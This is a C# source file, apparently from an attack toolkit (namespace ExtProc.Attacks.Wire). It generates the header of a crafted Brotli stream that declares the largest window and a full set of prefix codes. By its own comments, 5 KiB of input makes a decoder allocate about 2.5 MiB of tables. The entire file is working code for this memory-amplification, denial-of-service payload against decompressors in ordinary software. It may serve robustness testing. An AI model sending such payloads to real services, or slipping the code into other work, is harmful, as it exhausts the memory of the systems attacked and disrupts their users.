namespace ExtProc.Attacks.Wire;

/// <summary>
/// The first bytes of a Brotli stream (RFC 7932, sections 9.1 and 9.2) that say as much as they can: the largest window, a piece of 16 MiB, and
/// for each of three alphabets 256 codes. They are 5 KiB, and a decoder makes tables of 2.5 MiB of them.
/// </summary>
internal static class BrotliHead
{
    private const int Codes = 256, Postfix = 3, Direct = 15, Distances = 16 + (Direct << Postfix) + (48 << Postfix);
    private const int Repeat = 16;

    private static readonly int[] LengthOrder = [1, 2, 3, 4, 0, 5, 17, 6, 16, 7, 8, 9, 10, 11, 12, 13, 14, 15];

    // How a length of 0 to 5 of a code for lengths is written: its bits, and how many.
    private static readonly (int Bits, int Count)[] Lengths = [(0b00, 2), (0b0111, 4), (0b011, 3), (0b10, 2), (0b01, 2), (0b1111, 4)];

    /// <summary>The bytes.</summary>
    public static byte[] Largest()
    {
        Bits bits = new();
        bits.Add(15, 4); // a window of 16 MiB
        bits.Add(0b10 << 1, 3); // not the last piece; its length has six digits
        bits.Add((16 << 20) - 1, 24);
        bits.Add(0, 1);
        for (int alphabet = 0; alphabet < 3; alphabet++)
        {
            AddCount(bits);
            AddOnly(bits, 0, 9);
            AddOnly(bits, 25, 5);
            bits.Add(0xFFFFFF, 24);
        }

        bits.Add(Postfix, 2);
        bits.Add(Direct, 4);
        bits.Add(0, 2 * Codes); // contexts
        for (int map = 0; map < 2; map++)
        {
            AddCount(bits);
            bits.Add(0, 1);
            AddOnly(bits, 0, 8);
            bits.Add(0, 1);
        }

        foreach (int alphabet in (int[])[256, 704, Distances])
        {
            for (int code = 0; code < Codes; code++)
            {
                AddCode(bits, alphabet);
            }
        }

        return bits.ToArray();
    }

    private static void AddCount(Bits bits) => bits.Add(1 | 7 << 1 | 127 << 4, 11);

    /// <summary>A code of one symbol, which takes no bits.</summary>
    private static void AddOnly(Bits bits, int symbol, int symbolBits)
    {
        bits.Add(1, 4);
        bits.Add(symbol, symbolBits);
    }

    /// <summary>A whole code of an alphabet, all symbols as long as each other or one bit shorter.</summary>
    private static void AddCode(Bits bits, int alphabet)
    {
        int length = (int)Math.Ceiling(Math.Log2(alphabet)), shorter = (1 << length) - alphabet;
        int[] used = shorter > 0 ? [length - 1, length, Repeat] : [length, Repeat];
        int[] usedBits = shorter > 0 ? [2, 2, 1] : [1, 1];
        AddLengths(bits, used, usedBits);
        if (shorter > 0)
        {
            AddRun(bits, shorter, () => bits.Add(0b01, 2), () => bits.Add(0, 1));
            AddRun(bits, alphabet - shorter, () => bits.Add(0b11, 2), () => bits.Add(0, 1));
        }
        else
        {
            AddRun(bits, alphabet, () => bits.Add(0, 1), () => bits.Add(1, 1));
        }
    }

    /// <summary>The code for the lengths that follow, until it is whole.</summary>
    private static void AddLengths(Bits bits, int[] used, int[] usedBits)
    {
        bits.Add(0, 2);
        int space = 32;
        foreach (int symbol in LengthOrder)
        {
            int at = Array.IndexOf(used, symbol), length = at < 0 ? 0 : usedBits[at];
            bits.Add(Lengths[length].Bits, Lengths[length].Count);
            space -= length > 0 ? 32 >> length : 0;
            if (space == 0)
            {
                return;
            }
        }
    }

    /// <summary>One length many times, with the code that repeats it, three times each.</summary>
    private static void AddRun(Bits bits, int count, Action length, Action repeat)
    {
        while (count > 0)
        {
            length();
            count--;
            if (count >= 3)
            {
                repeat();
                bits.Add(0, 2);
                count -= 3;
            }
        }
    }

    /// <summary>Bits, the lowest first.</summary>
    private sealed class Bits
    {
        private readonly List<byte> _bytes = [];
        private int _count;

        public void Add(int value, int count)
        {
            for (int at = 0; at < count; at++, _count++)
            {
                if (_count % 8 == 0)
                {
                    _bytes.Add(0);
                }

                _bytes[^1] |= (byte)((at < 32 ? value >> at & 1 : 0) << (_count % 8));
            }
        }

        public byte[] ToArray() => [.. _bytes];
    }
}
